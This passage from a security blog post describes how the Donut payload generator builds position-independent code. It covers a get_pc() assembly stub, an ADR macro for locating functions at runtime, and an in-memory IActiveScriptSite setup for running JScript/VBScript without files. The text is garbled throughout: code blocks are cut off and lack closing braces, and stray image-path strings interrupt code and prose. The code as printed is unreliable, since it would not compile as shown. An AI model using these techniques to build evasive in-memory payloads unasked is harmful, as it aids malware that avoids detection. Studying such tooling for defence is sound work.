a function in-memory. The following code stub is placed at the end of the payload and returns the value of the program counter.

#if defined(_MSC_VER)
  #if defined(_M_X64)

    #define PC_CODE_SIZE 9 // sub rsp, 40 / call get_pc

    static char *get_pc_stub(void) {
      return (char*)_ReturnAddress() - PC_CODE_SIZE;
    static char *get_pc(void) {
      return get_pc_stub();#elif defined(_M_IX86)
    __declspec(naked) static char *get_pc(void) {
      __asm {
          call   pc_addr
          pop    eax
          sub    eax, 5
#elif defined(__GNUC__)
  #if defined(__x86_64__)
    static char *get_pc(void) {
        __asm__ (
        "call   pc_addr\n"
        "pop    %rax\n"
        "sub    $5, %rax\n"
  #elif defined(__i386__)
    static char *get_pc(void) {
        __asm__ (
        "call   pc_addr\n"
        "popl   %eax\n"
        "subl   $5, %eax\n"

With this code, the linker will calculate the Relative Virtual Address (RVA) by subtracting the offset of our target function from the offset of the get_pc() function. Then at runtime, it will subtract the RVA from the program counter returned by get_pc() to obtain the Virtual Address of the target function. The position of get_pc() must be placed at the end of a payload, otherwise this would not work. The following macro (named after the ARM opcode ADR) is used to calculate the virtual address of a function in-memory.

#define ADR(type, addr) (type)(get_pc() - ((ULONG_PTR)&get_pc - (ULONG_PTR)addr))To illustrate how it’s used, the following code from the payload shows how to initialize the IActiveScriptSite interface.

// initialize virtual function table
static VOID ActiveScript_New(PDONUT_INSTANCE inst, IActiveScriptSite *this) {
    MyIActiveScriptSite *mas = (MyIActiveScriptSite*)this;
    // Initialize IUnknown
    mas->site.lpVtbl->QueryInterface      = ADR(LPVOID, ActiveScript_QueryInterface);
    mas->site.lpVtbl->AddRef              = ADR(LPVOID, ActiveScript_AddRef);
    mas->site.lpVtbl->Release             = ADR(LPVOID, ActiveScript_Release);
    // Initialize IActiveScriptSite
    mas->site.lpVtbl->GetLCID             = ADR(LPVOID, ActiveScript_GetLCID);mas->site.lpVtbl->GetItemInfo         = ADR(LPVOID, ActiveScript_GetItemInfo);
    mas->site.lpVtbl->GetDocVersionString = ADR(LPVOID, ActiveScript_GetDocVersionString);
    mas->site.lpVtbl->OnScriptTerminate   = ADR(LPVOID, ActiveScript_OnScriptTerminate);
    mas->site.lpVtbl->OnStateChange       = ADR(LPVOID, ActiveScript_OnStateChange);
    mas->site.lpVtbl->OnScriptError       = ADR(LPVOID, ActiveScript_OnScriptError);
    mas->site.lpVtbl->OnEnterScript       = ADR(LPVOID, ActiveScript_OnEnterScript);
    mas->site.lpVtbl->OnLeaveScript       = ADR(LPVOID, ActiveScript_OnLeaveScript);
    mas->site.m_cRef                      = 0;
    mas->inst                             = inst;

Dynamic Calls to DLL Functions

After implementing support for some WScript methods, providing access to DLLfunctions directly from VBScript/JScript using a similar approach is much easier to understand. The initial problem is how to load type information directly from memory. One solution to this can be found in A lightweight approach for exposing C++ objects to a hosted Active Scripting engine. Confronted with the same problem, the author uses CreateDispTypeInfo and CreateStdDispatch to create the ITypeInfo and IDispatch interfaces necessary for interpreted languages to call C++ objects. The same approach can be used to call DLL functions and doesn’t require COM registration.


v0.9.2 of Donut will support in-memory execution of JScript/VBScript and XSL files. Dynamic calls to DLL functions without COMregistration will be supported in a future release.

This entry was posted in assembly, programming, security, shellcode, windows and tagged , , , , , , , . Bookmark the permalink.

Leave a Reply

Fill in your details below or click an icon to log in: LogoYou are commenting using youraccount. Log Out /  Change )

Google photo

You are commenting using your Google account. Log Out /  Change )

Twitter picture

Youare commenting using your Twitter account. Log Out /  Change )

Facebookphoto

You are commenting using your Facebookaccount. Log Out /  Change )

Connecting to %s